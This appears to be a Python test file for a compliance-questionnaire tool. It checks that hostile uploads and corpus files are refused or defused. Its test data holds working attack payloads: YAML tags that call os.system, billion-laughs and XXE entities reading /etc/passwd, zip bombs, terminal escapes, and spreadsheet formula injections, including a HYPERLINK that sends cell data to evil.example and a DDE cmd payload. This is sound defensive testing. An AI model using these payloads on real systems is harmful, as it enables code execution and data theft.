"""Hostile files: corpus front matter, customer questionnaires and company documents. Each is refused with a
message that names it and says what to do, or read without what made it hostile; nothing is half-written, and
a filled questionnaire never carries a live formula. Questions, tenants and planted instructions: test_hostile.py.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings, strategies as st
from openpyxl import Workbook, load_workbook

from bot import Assistant, Settings
from ingest import Store, ingest, load_corpus
from ingest.catalog import CATALOG
from ingest.documents import Unreadable, read_document
from ingest.errors import CorpusInvalid
from ingest.load import parse_markdown
from tests.conftest import CORPUS, TINY
from tests.test_documents import pdf_with_text
from tests.test_hostile import says_what_to_do

FEW = settings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

# --- 3. corpus front matter ----------------------------------------------------------------------------------

GOOD = {"id": "CC6.1", "framework": "soc2", "kind": "criterion", "title": "Logical access",
        "theme": "Logical and physical access controls", "category": "security"}
BODY = "\n## What it requires\n\nCC6.1 requires logical access controls for everyone who signs in.\n"


def front(text: str) -> str:
    return f"---\n{text}\n---{BODY}"


def good_but(**change) -> str:
    return front(yaml.safe_dump({k: v for k, v in {**GOOD, **change}.items() if v is not None}, sort_keys=False))


LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi"))
HOSTILE_FRONT_MATTER = [
    ("missing id", good_but(id=None), "id: Field required"),
    ("id of the wrong type", good_but(id=["CC6.1", "CC6.2"]), "id: Input should be a valid string"),
    ("id that closes a citation", good_but(id="CC6.1] [CC99.9"), "may hold only letters, digits"),
    ("id that is a path", good_but(id="../../etc/passwd"), "may hold only letters, digits"),
    ("id with a newline", good_but(id="CC6.1\nA.5.1"), "may hold only letters, digits"),
    ("id the standard never defined", good_but(id="CC99.9"), "not a soc2 criterion"),
    ("boolean for a number", good_but(coso_principle=True), "coso_principle: Input should be a valid integer"),
    ("python object tag", front("id: !!python/object/apply:os.system ['touch SENTINEL']\n" + yaml.safe_dump(
        {k: v for k, v in GOOD.items() if k != "id"})), "could not determine a constructor"),
    ("python name tag", front("id: !!python/name:os.system\n"), "could not determine a constructor"),
    ("billion laughs", front(LAUGHS + yaml.safe_dump(GOOD)), "front matter a: Extra inputs"),
    ("billion laughs in a field", front(LAUGHS + yaml.safe_dump(GOOD) + "aliases: *i\n"), "aliases.0"),
    ("deep nesting", front(yaml.safe_dump(GOOD) + "aliases: " + "[" * 5000 + "]" * 5000), "nests"),
    ("huge value", good_but(title="x" * 1_000_000), "over the limit of 16,000"),
    ("too many aliases", good_but(aliases=[f"alias {n}" for n in range(61)]), "at most 60 items"),
    ("huge alias", good_but(aliases=["y" * 500]), "aliases.0: String should have at most 120"),
    ("key given twice", front("id: CC6.1\nid: CC6.2\n" + yaml.safe_dump({k: v for k, v in GOOD.items() if k != "id"})),
     "key 'id' is given twice"),
    ("not a mapping", front("- id\n- CC6.1"), "must be a YAML mapping"),
    ("front matter never closed", "---\n" + yaml.safe_dump(GOOD) + BODY, "not closed"),
    ("binary for text", front("id: !!binary Q0M2LjE=\n" + yaml.safe_dump({k: v for k, v in GOOD.items() if k != "id"})),
     "id: Input should be a valid string"),
    ("duplicate id", good_but(), "id CC6.1 is already used by corpus/soc2/CC6.1.md"),
]


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """A tiny corpus, ingested once: every hostile file below must leave this generation serving."""
    root = tmp_path_factory.mktemp("front")
    for rel in TINY:
        (root / "corpus" / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(CORPUS / rel, root / "corpus" / rel)
    store = Store(root / "data", retire_after=0)
    first = ingest(load_corpus(root / "corpus"), store)
    return root, store, first.collection


@pytest.mark.parametrize("case,raw,problem", HOSTILE_FRONT_MATTER, ids=[c[0] for c in HOSTILE_FRONT_MATTER])
def test_hostile_front_matter_is_refused_and_nothing_is_published(published, tmp_path, monkeypatch, case, raw, problem):
    root, store, collection = published
    corpus = tmp_path / "corpus"
    shutil.copytree(root / "corpus", corpus)
    (corpus / "soc2" / "hostile.md").write_text(raw, encoding="utf-8")
    monkeypatch.chdir(tmp_path)  # where a `touch SENTINEL` would land
    with pytest.raises(CorpusInvalid) as info:
        ingest(load_corpus(corpus), store)
    problems = "\n".join(info.value.problems)
    assert "soc2/hostile.md: " in problems and problem in problems, problems
    assert "previous index is still in use" in str(info.value)
    assert store.published().collection == collection and not (tmp_path / "SENTINEL").exists()


YAML = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
                    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
                    max_leaves=8)
HOSTILE_VALUES = YAML | st.text(st.characters(exclude_categories=["Cs"]), max_size=30) | st.sampled_from(
    ["CC6.1]", "../x", "A.5.1\n", "CC99.9", "A.9.9", "9.9", "P1.1", "A.8.24", "9.2", "soc2-type1-vs-type2"])
FIELDS = [*GOOD, "aliases", "related", "coso_principle", "new_in_2022", "surprise"]


@FEW
@given(new_id=st.none() | st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | HOSTILE_VALUES,
       changes=st.dictionaries(st.sampled_from(FIELDS), HOSTILE_VALUES, max_size=2),
       dropped=st.none() | st.sampled_from(list(GOOD)), raw=st.text(st.sampled_from("abc:-[]{}&*!| \n'\"#0.9"), max_size=120))
@example(new_id=None, changes={}, dropped=None, raw="")
def test_any_front_matter_is_a_valid_document_or_a_reason(new_id, changes, dropped, raw):
    fields = {k: v for k, v in {**GOOD, **changes}.items() if k != dropped}
    if new_id is not None:
        fields["id"] = new_id
    for text in (front(yaml.safe_dump(fields, allow_unicode=True)), front(raw)):
        try:
            doc = parse_markdown(text.encode("utf-8"), "soc2/x.md")
        except ValueError as exc:
            assert str(exc) and "Traceback" not in str(exc)
            continue
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", doc.meta.id)
        if doc.meta.is_standard:
            entry = CATALOG[doc.meta.id]
            assert (entry.framework, entry.kind) == (doc.meta.framework, doc.meta.kind)


@pytest.mark.slow
def test_cli_ingest_names_the_hostile_file_and_the_previous_index_keeps_answering(published, standards_data, tmp_path,
                                                                                     monkeypatch):
    from typer.testing import CliRunner

    from ui.cli import app

    root, store, collection = published
    corpus = tmp_path / "corpus"
    shutil.copytree(root / "corpus", corpus)
    (corpus / "soc2" / "nested.md").write_text(HOSTILE_FRONT_MATTER[11][1])
    (corpus / "soc2" / "tagged.md").write_text(HOSTILE_FRONT_MATTER[7][1])
    monkeypatch.setenv("TRUSTDESK_DATA_DIR", str(store.data_dir))
    result = CliRunner().invoke(app, ["ingest", "--corpus", str(corpus)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    stderr = " ".join(result.stderr.split())
    assert "2 corpus file(s) are invalid; nothing was published" in stderr
    assert "soc2/nested.md: malformed front matter" in stderr and "soc2/tagged.md: malformed front matter" in stderr
    assert store.published().collection == collection
    for cache in standards_data.glob("intents-*.npz"):  # the fitted intent classifier: no need to fit it again
        shutil.copy(cache, store.data_dir)
    answer = Assistant(Settings(data_dir=store.data_dir)).ask("What does CC6.1 require?")
    assert answer.citations[0].id == "CC6.1"


# --- 4. uploaded files: questionnaires and company documents ------------------------------------------------

def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx(text: str = "Access is reviewed every quarter by each team's manager.") -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _with_part(package: bytes, name: str, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(package))
    return _zip({i.filename: change(source.read(i.filename)) if i.filename == name else source.read(i.filename)
                 for i in source.infolist()})


XXE = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
       b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
       b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
       b'<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY x SYSTEM "file:///etc/passwd">]>')


def _locked_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_text("Backups are restored every quarter."))))
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _aes_pdf() -> bytes:
    """A PDF under AES-256 (V5 R6, Acrobat's default); pypdf needs `cryptography` even to try a password."""
    head, tail = pdf_with_text("Backups are restored every quarter.").split(b"xref\n", 1)
    hexed = lambda n: b"<" + bytes(range(n)).hex().encode() + b">"  # noqa: E731
    encrypt = (b"6 0 obj\n<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /CF << /StdCF << /CFM /AESV3 /Length 32 >> "
               b">> /StmF /StdCF /StrF /StdCF /O " + hexed(48) + b" /U " + hexed(48) + b" /OE " + hexed(32) + b" /UE " +
               hexed(32) + b" /Perms " + hexed(16) + b" >>\nendobj\n")
    offsets = [int(o) for o in re.findall(rb"(\d{10}) 00000 n", tail)] + [len(head)]
    xref = b"xref\n0 7\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    trailer = (b"trailer\n<< /Size 7 /Root 1 0 R /Encrypt 6 0 R /ID [" + hexed(16) + hexed(16) + b"] >>\n"
               b"startxref\n%d\n%%%%EOF\n" % (len(head) + len(encrypt)))
    return head + encrypt + xref + trailer


def _workbook() -> bytes:
    book = Workbook()
    book.active.append(["Question"])
    book.active.append(["Do you encrypt customer data at rest?"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HOSTILE_QUESTIONNAIRES = [
    ("bomb.xlsx", lambda: _zip({"xl/worksheets/sheet1.xml": b"\0" * 300_000_000}), "zip bomb"),
    ("truncated.xlsx", lambda: _workbook()[:600], "corrupt or truncated"),
    ("text.xlsx", lambda: b"Question\nDo you encrypt data?\n", "corrupt or truncated"),
    ("renamed-docx.xlsx", _docx, "another file renamed to .xlsx"),
    ("locked.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password-protected"),
    ("nul.csv", lambda: b"Question\nDo you encrypt data at rest?\x00\nDo you use MFA everywhere?\n", "NUL character on line 2"),
    ("rows.csv", lambda: b"Question\n" + b"".join(b"Do you encrypt customer data, case %d?\n" % n
                                                  for n in range(100_000)), "100,000 questions, over the limit"),
    ("binary.csv", lambda: bytes(range(256)) * 40, "not text in any encoding"),
    ("field.csv", lambda: b"Question\n" + b"x" * 200_000 + b"\n", "is not valid CSV"),
]


@pytest.mark.parametrize("name,make,problem", HOSTILE_QUESTIONNAIRES, ids=[q[0] for q in HOSTILE_QUESTIONNAIRES])
def test_hostile_questionnaires_are_refused_by_name_and_nothing_is_written(tmp_path, name, make, problem):
    from bot.sales.questionnaire import FillError, fill
    from ingest.records import Records

    source, out = tmp_path / "in" / name, tmp_path / "out" / f"filled{Path(name).suffix}"
    source.parent.mkdir()
    source.write_bytes(make())
    before = source.read_bytes()
    records = Records(f"sqlite:///{tmp_path / 'records.db'}")
    with pytest.raises(FillError) as info:  # refused before the engine is needed: this data dir has no index
        fill(Assistant(Settings(data_dir=tmp_path / "data")), records, source, out, "acme")
    records.dispose()
    message = str(info.value)
    assert message.startswith(name) and problem in message and says_what_to_do(message), message
    assert not out.parent.exists() or not list(out.parent.iterdir()), "something was half-written"
    assert source.read_bytes() == before


HOSTILE_DOCUMENTS = [
    ("locked.pdf", _locked_pdf, "encrypted"),
    ("aes.pdf", _aes_pdf, "encrypted"),
    ("loop.pdf", lambda: re.sub(rb"<< /Length \d+ >>", b"<< /Length 4 0 R >>", pdf_with_text("Backups run nightly.")),
     "not a readable PDF"),
    ("renamed-zip.docx", lambda: _zip({"notes.txt": b"hello"}), "another file renamed to .docx"),
    ("xlsx.docx", _workbook, "another file renamed to .docx"),
    ("no-parts.docx", lambda: _zip({"[Content_Types].xml": b"<Types/>"}), "not a readable Word document"),
    ("bad-rels.docx", lambda: _with_part(_docx(), "_rels/.rels", lambda _: b"<not xml"), "not a readable Word document"),
    ("laughs.docx", lambda: _with_part(_docx(), "word/document.xml", lambda xml: XXE + xml.split(b"?>", 1)[1].replace(
        b"Access is", b"&g; &x; Access is")), "not a readable Word document"),
    ("late-nul.md", lambda: b"# Policy\n\n" + b"Access is reviewed. " * 200 + b"\x00 hidden\n", "NUL bytes"),
]


@pytest.mark.parametrize("name,make,problem", HOSTILE_DOCUMENTS, ids=[d[0] for d in HOSTILE_DOCUMENTS])
def test_hostile_documents_are_refused_with_a_reason(name, make, problem):
    with pytest.raises(Unreadable) as info:
        read_document(make(), name)
    assert problem in str(info.value) and says_what_to_do(str(info.value)), str(info.value)
    assert "0x" not in str(info.value), "no object reprs in a message for people"


@pytest.mark.parametrize("name,raw", [
    ("nul.pdf", pdf_with_text("Backups are encrypted\\000 and restored every quarter as a test.")),
    ("escape.pdf", pdf_with_text("Backups are encrypted\\033[31m\\007 and restored every quarter as a test.")),
    ("escape.txt", b"Backups are encrypted \x1b]0;pwned\x07 and restored every quarter as a test.\n"),
    ("escape.html", b"<p>Backups are encrypted \x1b[2J\x0b and restored every quarter as a test.</p>"),
])
def test_control_characters_never_leave_a_document(name, raw):
    doc = read_document(raw, name)
    assert "restored every quarter" in doc.text and not CONTROL.search(doc.text + doc.title)



def test_a_folder_of_hostile_files_stores_the_good_ones_cleanly(records, tmp_path):
    """SQLite and PostgreSQL (which refuses a NUL): the bad files are named, the rest stored and indexed."""
    from bot.sales.library import Library, rebuild_index
    from bot.sales.tenant import ingest_folder

    folder = tmp_path / "pack"
    folder.mkdir()
    good = {"政策.md": "# 政策\n\nAll staff sign in with MFA on every system.\n",
            "規則.md": "# 規則\n\nLaptops are encrypted with full-disk encryption.\n",
            "backups.pdf": pdf_with_text("Backups are encrypted\\000 and restored every quarter as a test."),
            "escape.txt": "Logs are kept for a year \x1b[31mand reviewed\x07 weekly by the security team.\n",
            "answers.csv": "question,answer\nDo you scan for vulnerabilities?,Yes\x07 weekly\x1b[0m with a scanner.\n"}
    bad = {"locked.pdf": _locked_pdf(), "no-parts.docx": _zip({"[Content_Types].xml": b"<Types/>"}),
           "late-nul.md": b"# Policy\n\n" + b"Access is reviewed. " * 200 + b"\x00\n",
           "nul-answers.csv": b"question,answer\nDo you use MFA?,Yes\x00 always.\n", "bomb.xlsx": HOSTILE_QUESTIONNAIRES[0][1]()}
    for name, content in {**good, **bad}.items():
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
    library = Library(records, "hostile")
    report = ingest_folder(library, folder)
    assert sorted(p.split(":")[0] for p in report.problems) == sorted(bad), report.problems
    assert all(says_what_to_do(p) for p in report.problems), report.problems
    stored = library.documents()
    assert sorted(d.name for d in stored) == sorted(n for n in good if not n.endswith(".csv"))
    texts = [d.text + d.title for d in stored] + [e.question + e.answer for e in library.entries()]
    assert library.entries() and not [t for t in texts if CONTROL.search(t)]
    assert library.edit(library.entries()[0].id, answer="Yes\x00, weekly\x1b[0m.").answer == "Yes, weekly [0m."
    docs = library.corpus()
    assert len({d.meta.id for d in docs}) == len(docs), "two documents share an ID"
    published = rebuild_index(library, Store(tmp_path / "data"))
    assert published.documents == len(docs)


@FEW
@given(name=st.one_of(st.text(max_size=120), st.sampled_from(["../../etc/passwd.csv", "..\\..\\win.ini.csv", "/abs.md",
                                                            "..csv", "a\x00b.md", "政策.md", "\u202egnp.md", "CON.csv",
                                                            " .md", "x" * 300 + ".docx", "q.CSV", "q.csv\n"])))
def test_an_upload_lands_inside_its_folder_under_a_safe_name_and_replaces_nothing(tmp_path_factory, name):
    from ui.web.uploads import UploadRejected, save

    folder = tmp_path_factory.mktemp("uploads")
    allowed = {".csv", ".xlsx", ".md", ".docx"}
    try:
        first = save(name, b"first", allowed, 1, folder, fresh=False)
    except UploadRejected as exc:
        assert Path(name).suffix.lower() not in allowed or not name, str(exc)
        return
    second = save(name, b"second", allowed, 1, folder, fresh=False)
    fresh = save(name, b"fresh", allowed, 1, folder)
    for path in (first, second, fresh):
        assert path.resolve().is_relative_to(folder.resolve()) and re.fullmatch(r"[A-Za-z0-9._-]+", path.name)
        assert path.suffix in allowed
    assert first.read_bytes() == b"first" and second.read_bytes() == b"second", "an upload replaced another"


def test_control_characters_in_answers_never_break_the_xlsx_writer(tmp_path):
    from ingest.workbook import Filled, Questionnaire

    (tmp_path / "q.xlsx").write_bytes(_workbook())
    questionnaire = Questionnaire.load(tmp_path / "q.xlsx")
    [item] = questionnaire.items
    questionnaire.write(tmp_path / "out.xlsx", {(item.sheet, item.row): Filled("Yes\x07 always\x00.\x1b[0m", "Yes",
                                                                               "policy\x0b", "high", "No")})
    row = [c.value for c in load_workbook(tmp_path / "out.xlsx").active[item.row]]
    assert row[1].startswith("Yes always.") and not [v for v in row if v and CONTROL.search(str(v))]


# --- formula injection: what trustdesk writes back never runs -------------------------------------------------

FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")
INJECTED = [["Nr", "Question", "Tag"],  # no answer column of its own: trustdesk adds Answer and Yes/No
            ["1", '=HYPERLINK("http://evil.example/?d="&B3,"Do you run a bug bounty programme?")', "=cmd|' /C calc'!A0"],
            ["2", "Do you run a bug bounty programme?", "+SUM(1;2)"],
            ["3", "@SUM(1+1) Do you encrypt customer data at rest?", "-2+3+cmd|' /C calc'!A0"],
            ["4", "-Do you review access rights every quarter?", "-5"],
            ["5", "+Do you have a documented incident response plan?", "12.5%"]]


@pytest.fixture(scope="module")
def formulas(northwind_assistant):
    """Tenant `hostilefx`: an approved answer that is itself a formula."""
    from bot.sales.library import Library, rebuild_index
    from ingest.records import Records

    records = Records.open(northwind_assistant.settings)
    library = Library(records, "hostilefx")
    library.import_rows([{"question": "Do you run a bug bounty programme?", "answer": '=HYPERLINK("http://evil.example",'
                          '"Yes, see our programme")', "yes_no": "yes"}])
    rebuild_index(library, northwind_assistant.store)
    yield records
    records.dispose()


@pytest.mark.slow
def test_a_filled_csv_carries_no_live_formula(northwind_assistant, formulas, tmp_path):
    from bot.sales.questionnaire import fill

    source = tmp_path / "injected.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(INJECTED)
    fill(northwind_assistant, formulas, source, tmp_path / "filled.csv", "hostilefx")
    rows = list(csv.reader((tmp_path / "filled.csv").open(encoding="utf-8-sig")))
    assert len(rows) == len(INJECTED) and all(len(r) == 10 for r in rows[1:])  # 3 + Answer, Yes/No + 5 review
    live = [cell for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]
    assert live == [], live
    bounty = rows[2]
    assert bounty[3].startswith("'=HYPERLINK(") and bounty[4] == "Yes", "the approved answer, quoted and defused"
    assert rows[1][1] == "'" + INJECTED[1][1] and rows[4][2] == "-5", "echoed cells defused, numbers kept"


@pytest.mark.slow
def test_a_filled_xlsx_writes_every_answer_and_echo_as_text(northwind_assistant, formulas, tmp_path):
    from bot.sales.questionnaire import fill

    book = Workbook()
    sheet = book.active
    for row in INJECTED:
        sheet.append(row)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            cell.data_type = "s"  # the customer typed text that starts with = + - @
    sheet["E1"] = "=COUNTA(B2:B6)"  # and one real formula of their own
    book.save(tmp_path / "injected.xlsx")
    fill(northwind_assistant, formulas, tmp_path / "injected.xlsx", tmp_path / "filled.xlsx", "hostilefx")
    filled = load_workbook(tmp_path / "filled.xlsx").active
    formulas_left = [c.coordinate for row in filled.iter_rows() for c in row if c.data_type == "f"]
    assert formulas_left == ["E1"], "only the customer's own formula is a formula"
    assert filled["F3"].value.startswith("=HYPERLINK(") and filled["F3"].data_type == "s"
